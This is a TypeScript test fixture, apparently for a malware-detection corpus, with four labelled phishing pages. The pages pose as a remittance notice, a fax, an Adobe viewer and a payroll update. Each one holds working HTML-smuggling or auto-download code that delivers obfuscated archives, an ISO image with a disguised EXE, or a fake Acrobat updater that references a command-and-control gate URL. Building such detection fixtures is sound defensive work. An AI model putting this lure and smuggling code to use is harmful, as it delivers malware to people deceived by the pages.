import type { Entry } from '../entry.js';
import { raw, js, pe, bin } from '../parts/c-smuggling.js';

export const entries: Entry[] = [
  {
    id: 'c-smuggle-zip-onload',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://remit-portal-secure.com/inbox/att/Remittance_Advice_0931.html',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Remittance Advice</title>
<style>body{font-family:Calibri,Arial,sans-serif;background:#eef1f5;margin:0}.c{max-width:520px;margin:12vh auto;background:#fff;border-top:5px solid #1e6bb8;padding:28px;box-shadow:0 2px 10px #0002}.c h2{margin-top:0;color:#1e3a5f}.s{color:#666;font-size:14px}.l{display:inline-block;margin-top:14px;color:#1e6bb8}</style></head>
<body><div class="c"><h2>Remittance Advice #0931</h2><p>Your payment confirmation is being downloaded.</p><p class="s">If the download does not start automatically, <a href="#" class="l" id="again">click here</a>.</p><p class="s">Open the downloaded archive to view the remittance.</p></div>
<script>
function b2u(b64){var s=atob(b64),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);return u}
var d="UEsDBBQAAAAIAIS4fF1AIQYEmwAAALoAAAAZAAAAUmVtaXR0YW5jZV9BZHZpY2VfMDkzMS5qc1XKuw6CMBSA4Vc5CxTCpUY3CYOJjkYDJjqw1MNRakpLevP1ZXX8839RWHCtpi8c0MtIj8vzQ+gzdu/RysXX/URKsbyJKwwtm7xf3J5zqaORSBWOunLeWKrRzHzhoh6FZ42ru6AzhvMIHAGDVVA5qAwkt9P5mgzD6pQCVoSCQZqCDXrt3fb/l0elOnpL58n2ZCNZVm7Kl1CO8uYHUEsBAhQDFAAAAAgAhLh8XUAhBgSbAAAAugAAABkAAAAAAAAAAAAAAIABAAAAAFJlbWl0dGFuY2VfQWR2aWNlXzA5MzEuanNQSwUGAAAAAAEAAQBHAAAA0gAAAAAA";
function go(){
  var blob=new Blob([b2u(d)],{type:'application/octet-stream'});
  var u=URL.createObjectURL(blob);
  var a=document.createElement('a');a.style.display='none';a.href=u;a.download='Remittance_Advice_0931.zip';
  document.body.appendChild(a);a.click();
  setTimeout(function(){URL.revokeObjectURL(u);a.remove()},1500);
}
window.addEventListener('load',go);
document.getElementById('again').onclick=function(e){e.preventDefault();go()};
</script></body></html>`,
  },
  {
    id: 'c-smuggle-iso-click',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://secure-fax-delivery.net/view/FAX-88210.html',
    body: raw`<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>eFax Message</title>
<style>body{margin:0;background:#f4f6f8;font-family:Helvetica,Arial,sans-serif}.hd{background:#c8102e;color:#fff;padding:14px 24px;font-weight:700;font-size:20px}.bx{max-width:560px;margin:40px auto;background:#fff;border-radius:6px;padding:28px;box-shadow:0 1px 4px #0002}table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px 0;border-bottom:1px solid #eee}td:first-child{color:#777;width:40%}.dl{display:block;width:100%;margin-top:20px;background:#c8102e;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px;cursor:pointer}</style></head>
<body><div class="hd">eFax</div><div class="bx"><h3>You have received a new fax</h3>
<table><tr><td>Pages</td><td>4</td></tr><tr><td>From</td><td>+1 (312) 555-0187</td></tr><tr><td>Received</td><td id="rcv"></td></tr><tr><td>Reference</td><td>FAX-88210</td></tr></table>
<button class="dl" id="dl">Download fax (FAX-88210.iso)</button><p style="font-size:12px;color:#888">Open the downloaded file and double-click the document inside to view your fax.</p></div>
<script src="/view/v.js"></script></body></html>`,
    routes: {
      'secure-fax-delivery.net/view/v.js': js(raw`document.getElementById('rcv').textContent=new Date().toLocaleString();
(function(){
  // ISO 9660 image assembled in the browser: primary volume descriptor + one file record + payload
  var K=0x5a;
  var P='F2B0AC0E1E1A131A1A170E15171F1A0A1F0F7A2F2F2A7A393B3F28143E1F3E3B797A0A130C1F281F3D3E0B120E0F3E3B313B1E1A3F2D1F38392E36141D7A6A6A6A';
  function hex(h){var o=new Uint8Array(h.length/2);for(var i=0;i<o.length;i++)o[i]=parseInt(h.substr(i*2,2),16)^K;return o}
  function build(){
    var img=new Uint8Array(0x8800+0x4000);
    var pvd=0x8000;img[pvd]=1;var id='CD001';for(var i=0;i<5;i++)img[pvd+1+i]=id.charCodeAt(i);img[pvd+6]=1;
    var vol='FAX_88210';for(i=0;i<vol.length;i++)img[pvd+40+i]=vol.charCodeAt(i);
    img[0x8800]=255;var t='CD001';for(i=0;i<5;i++)img[0x8801+i]=t.charCodeAt(i);
    var name='FAX_88210.PDF.EXE;1';for(i=0;i<name.length;i++)img[0x9000+33+i]=name.charCodeAt(i);
    var mz=hex(P);img.set([0x4d,0x5a],0xa000);img.set(mz,0xa002);
    return img;
  }
  document.getElementById('dl').addEventListener('click',function(){
    var b=new Blob([build()],{type:'application/x-iso9660-image'});
    if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(b,'FAX-88210.iso');return}
    var a=document.createElement('a');a.href=window.URL.createObjectURL(b);a.download='FAX-88210.iso';document.body.appendChild(a);a.click();
    this.textContent='Downloading…';
  });
})();`),
    },
  },
  {
    id: 'c-download-acrobat-exe',
    label: 'malware',
    kind: 'script-download',
    url: 'https://view-securedocument.com/share/d/Purchase_Order_7718.pdf',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Purchase_Order_7718.pdf - Adobe Document Cloud</title>
<style>body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif;background:#eaeaea}.top{background:#fff;height:50px;display:flex;align-items:center;padding:0 20px;border-bottom:1px solid #ddd;gap:10px;font-weight:700}.top b{background:#eb1000;color:#fff;border-radius:3px;padding:3px 7px}.doc{width:660px;max-width:92vw;height:860px;margin:20px auto;background:#fff;filter:blur(4px);padding:50px;box-sizing:border-box;color:#333}.modal{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:#0004}.pn{background:#fff;width:420px;border-radius:6px;padding:26px;text-align:center;box-shadow:0 8px 30px #0005}.pn .bt{background:#1473e6;color:#fff;border:0;border-radius:16px;padding:9px 24px;font-weight:700;cursor:pointer}</style></head>
<body><div class="top"><b>A</b> Adobe Document Cloud</div>
<div class="doc"><h2>PURCHASE ORDER</h2><p>PO Number: 7718</p><p>Vendor: ______</p><p>Ship to: ______</p><table style="width:100%"><tr><td>Item</td><td>Qty</td><td>Unit</td><td>Total</td></tr><tr><td>Steel fittings 3/4"</td><td>400</td><td>2.14</td><td>856.00</td></tr></table></div>
<div class="modal"><div class="pn" id="pn"><h3>This document requires the latest Adobe Acrobat Reader</h3><p style="font-size:14px;color:#555">Your version of Acrobat Reader is outdated and cannot display protected documents. Update to continue.</p><button class="bt" id="u">Update Now</button><p id="st" style="font-size:12px;color:#888"></p></div></div>
<script>
(function(){
  var win = /Windows/i.test(navigator.userAgent);
  var file = win ? 'AcrobatReader_Update_2024.1.exe' : 'AcrobatReader_Update.dmg';
  function start(){
    document.getElementById('st').textContent = 'Your download will begin shortly…';
    var i = document.createElement('iframe'); i.style.display = 'none';
    i.src = '/share/dl/' + file + '?doc=Purchase_Order_7718';
    document.body.appendChild(i);
  }
  document.getElementById('u').onclick = start;
  setTimeout(start, 3000);
})();
</script></body></html>`,
    routes: {
      'view-securedocument.com/share/dl/AcrobatReader_Update_2024.1.exe': bin(pe(['Adobe Systems Incorporated', 'AcroRdrUpd', 'https://view-securedocument.com/gate.php', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'kernel32.dll', 'VirtualAlloc', 'CreateProcessW'], 12288), 'application/octet-stream', 'AcrobatReader_Update_2024.1.exe'),
    },
  },
  {
    id: 'c-smuggle-lnk-password-zip',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://payroll-hr-notice.com/m/Payroll_Update_Q2.htm',
    body: raw`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Payroll Update Q2</title></head>
<body style="font-family:Arial,sans-serif;background:#fafafa">
<div style="max-width:480px;margin:80px auto;background:#fff;border:1px solid #e3e3e3;padding:30px">
<h2 style="margin-top:0">HR Department – Payroll Update</h2>
<p id="m">Preparing secure document…</p>
<p style="font-size:13px;color:#555">The file is encrypted for your protection.<br>Document password: <b>PR2025</b></p>
</div>
<script>
;(function (w, d) {
  var p = ["UEsDBBQAAAAIAIS4fF0kCrVDiQAAAPwAAAAZAAAAUGF5cm9sbF9VcGRhdGVfUTIucGRmLmxua52OMQrCQBBFn57BAy", "zp3aB2aQWrdBY2dklAQU2IgSh4OI/m2z2CM+zOzOPv/K2BxWpJim++OfBn7Kk4c+LKg5aemafzkbd1ouPOjq2ksWuJkpcnUEoCQ37RMaq+WG9m", "YC0LzqlLqsLts5rEJnNQXbmhdB6zayNJ2tZfRGuvWymLWbvh44bkXPADUEsBAhQDFAAAAAgAhLh8XSQKtUOJAAAA/AAAABkAAAAAAAAAAAAAAIABAAAAAFBheXJvbGxfVXBkYXRlX1EyLnBkZi5sbmtQSwUGAAAAAAEAAQBHAAAAwAAAAAAA"];
  var s = w.atob(p.join('')), n = s.length, u = new Uint8Array(n);
  while (n--) u[n] = s.charCodeAt(n);
  var b = new w.Blob([u.buffer], { type: 'application/zip' });
  var l = d.createElement('a');
  l.href = w.URL.createObjectURL(b);
  l.setAttribute('download', 'Payroll_Update_Q2.zip');
  d.body.appendChild(l);
  setTimeout(function () { l.click(); d.getElementById('m').textContent = 'Your document has been downloaded. Open Payroll_Update_Q2.zip to view it.'; }, 900);
})(window, document);
</script>
</body></html>`,
  },
];
